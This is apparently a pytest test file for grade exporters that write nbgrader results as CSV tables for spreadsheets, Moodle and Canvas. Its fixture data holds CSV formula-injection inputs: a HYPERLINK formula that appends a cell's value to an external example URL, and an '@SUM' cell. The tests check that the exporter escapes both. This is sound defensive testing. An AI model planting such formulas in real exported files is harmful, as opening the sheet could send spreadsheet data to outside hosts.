"""Grades out: the tables that spreadsheets, Moodle and Canvas take."""

from __future__ import annotations

import csv
import os
import shutil
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from nbgrader.api import Gradebook

from dlis_widgets.grading.export import CanvasExporter, MoodleExporter, PlainExporter
from tests.conftest import ROOT
from tests.nbgrader.conftest import nbgrader

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore:Object of type")]

MODULE = "dlis_widgets.grading.export"
FORMULA = '=HYPERLINK("https://example.org?"&A1,"Marks")'
PEOPLE: dict[str, dict[str, str]] = {
    "10001": {
        "last_name": "Smith, Jr",
        "first_name": "Mărie",
        "email": "marie@uni.example",
        "lms_user_id": "A-1",
    },
    "10002": {"last_name": FORMULA, "first_name": "@SUM(1)", "lms_user_id": "B-2"},
    "10003": {"last_name": 'O"Hara', "email": "zoe@uni.example"},
    "10004": {},
    "10005": {"last_name": "Sent Nothing", "email": "nobody@uni.example"},
}
SENT: dict[tuple[str, str], tuple[float, float | None, float]] = {
    ("module-1", "10001"): (2.67, 1.0, 0.5),
    ("module-1", "10002"): (0.0, None, 0.0),
    ("module-1", "10003"): (1.0, 1.0, 5.0),
    ("digital-agility", "10003"): (3.0, 0.5, 0.0),
    ("module-1", "10004"): (1.0, 0.0, 0.0),
}
"""By assignment and student: automatic points, points for the reflection or None, late penalty."""


def add_hand_in(book: Gradebook, assignment: str, student: str) -> None:
    """Add a graded hand-in."""
    points, reflection, penalty = SENT[assignment, student]
    book.add_submission(assignment, student)
    where = (assignment, assignment, student)
    check, prompt = book.find_grade("check", *where), book.find_grade("prompt", *where)
    check.auto_score, check.needs_manual_grade = points, False
    prompt.manual_score, prompt.needs_manual_grade = reflection, reflection is None
    book.find_submission_notebook(*where).late_submission_penalty = penalty


@pytest.fixture(scope="module")
def small_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a course folder with a gradebook of five people."""
    course = tmp_path_factory.mktemp("export") / "our course"
    (course / "course").mkdir(parents=True)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader calls `alembic` by name for a new gradebook.
        patch.setenv("PATH", os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
        with Gradebook(f"sqlite:///{course / 'course/gradebook.db'}") as book:
            for student, facts in PEOPLE.items():
                book.add_student(student, **facts)
            for assignment in ("module-1", "digital-agility"):
                book.add_assignment(assignment)
                book.add_notebook(assignment, assignment)
                book.add_grade_cell("check", assignment, assignment, max_score=3, cell_type="code")
                book.add_grade_cell("prompt", assignment, assignment, max_score=1, cell_type="markdown")
                book.add_solution_cell("prompt", assignment, assignment)
            for assignment, student in SENT:
                add_hand_in(book, assignment, student)
            book.db.commit()
    return course


@pytest.fixture
def gradebook(small_course: Path) -> Iterator[Gradebook]:
    """Return the gradebook, opened."""
    with Gradebook(f"sqlite:///{small_course / 'course/gradebook.db'}") as book:
        yield book


def rows_of(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    """Return the cells of a table."""
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.reader(file, strict=True))


def exported(exporter: type, gradebook: Gradebook, path: Path, **options: Any) -> list[list[str]]:  # noqa: ANN401 - settings
    """Return what an exporter writes; no cell of it may act as a formula."""
    exporter(to=str(path), **options).export(gradebook)
    rows = rows_of(path)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return rows


def test_the_plain_table_has_one_row_a_hand_in(gradebook: Gradebook, tmp_path: Path) -> None:
    rows = exported(PlainExporter, gradebook, tmp_path / "g.csv")
    assert rows[0] == [
        *("\ufeffassignment", "student_id", "last_name", "first_name", "email"),
        *("score", "max_score", "late_penalty", "waits_for_a_person", "handed_in"),
    ]
    found = {(row[0], row[1]): row[2:-1] for row in rows[1:]}
    assert len(found) == len(rows) - 1 == len(SENT), "who sent nothing has no row"
    assert found["module-1", "10001"] == [
        *("Smith, Jr", "Mărie", "marie@uni.example"),
        *("3.17", "4", "0.5", "no"),
    ]
    assert found["module-1", "10002"] == [f"'{FORMULA}", "'@SUM(1)", "", "0", "4", "0", "yes"]
    assert found["module-1", "10003"] == ['O"Hara', "", "zoe@uni.example", "0", "4", "5", "no"]
    assert found["digital-agility", "10003"][3:] == ["3.5", "4", "0", "no"]


def test_without_identities_nothing_but_ids_is_written(gradebook: Gradebook, tmp_path: Path) -> None:
    rows = exported(PlainExporter, gradebook, tmp_path / "g.csv", identities=False)
    assert rows[0][:3] == ["\ufeffassignment", "student_id", "score"]
    assert {row[1] for row in rows[1:]} == {"10001", "10002", "10003", "10004"}
    text = (tmp_path / "g.csv").read_text("utf-8")
    known = [value for facts in PEOPLE.values() for value in facts.values()]
    assert not [one for one in known if one in text]
    assert "Smith" not in text


def test_only_what_was_asked_for_is_exported(gradebook: Gradebook, tmp_path: Path) -> None:
    path = tmp_path / "g.csv"
    rows = exported(PlainExporter, gradebook, path, assignment=["module-1"], student=["10001", "10003"])
    assert [row[:2] for row in rows[1:]] == [["module-1", "10001"], ["module-1", "10003"]]
    # On the command line numbers arrive as numbers.
    assert exported(PlainExporter, gradebook, path, assignment=["module-1"], student=[10001, 10003]) == rows
    assert exported(MoodleExporter, gradebook, path, assignment=["digital-agility"]) == [
        ["ID number", "Email address", "digital-agility"],
        ["", "zoe@uni.example", "3.5"],
    ]


def test_moodle_gets_who_it_can_find(gradebook: Gradebook, tmp_path: Path) -> None:
    rows = exported(MoodleExporter, gradebook, tmp_path / "g.csv")
    assert rows[0] == ["ID number", "Email address", "digital-agility", "module-1"]
    assert sorted(rows[1:]) == [
        ["", "zoe@uni.example", "3.5", "0"],
        ["A-1", "marie@uni.example", "", "3.17"],
        ["B-2", "", "", "0"],
    ]


def test_canvas_gets_its_points_row_and_its_own_ids(gradebook: Gradebook, tmp_path: Path) -> None:
    rows = exported(CanvasExporter, gradebook, tmp_path / "g.csv")
    assert rows[0] == [
        *("Student", "ID", "SIS User ID", "SIS Login ID", "Section"),
        *("digital-agility", "module-1"),
    ]
    assert rows[1] == ["    Points Possible", "", "", "", "", "4", "4"]
    assert sorted(rows[2:], key=lambda row: row[1]) == [
        ["Smith, Jr, Mărie", "10001", "A-1", "marie@uni.example", "", "", "3.17"],
        [f"'{FORMULA}, @SUM(1)", "10002", "B-2", "", "", "", "0"],
        ['O"Hara', "10003", "", "zoe@uni.example", "", "3.5", "0"],
        ["", "10004", "", "", "", "", "1"],
    ]


def test_nobody_has_sent_anything(gradebook: Gradebook, tmp_path: Path) -> None:
    for exporter in (PlainExporter, MoodleExporter, CanvasExporter):
        rows = exported(exporter, gradebook, tmp_path / "g.csv", student=["10005"])
        assert len(rows) == (2 if exporter is CanvasExporter else 1)


def test_the_command_writes_moodles_table_and_says_who_is_missing(small_course: Path) -> None:
    said = nbgrader(small_course, "export", f"--exporter={MODULE}.MoodleExporter", "--to=for moodle.csv")
    rows = rows_of(small_course / "for moodle.csv")
    assert rows[0] == ["ID number", "Email address", "digital-agility", "module-1"]
    assert len(rows) == 4
    assert "Students with neither an ID number nor an address, whom Moodle cannot find: 1 (" in said
    assert "10004" in said
    assert "nbgrader db student import" in said
    assert "Hand-ins that still wait for a person: 1." in said


def test_the_command_without_options_writes_the_plain_table(small_course: Path) -> None:
    said = nbgrader(small_course, "export", "--PlainExporter.identities=False")
    path = small_course / "course/grades.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbfassignment,student_id,score,")
    assert len(rows_of(path)) == len(SENT) + 1
    assert f"{len(SENT)} rows written to" in said
    assert not (small_course / "grades.csv").exists(), "students' data stay in course/"
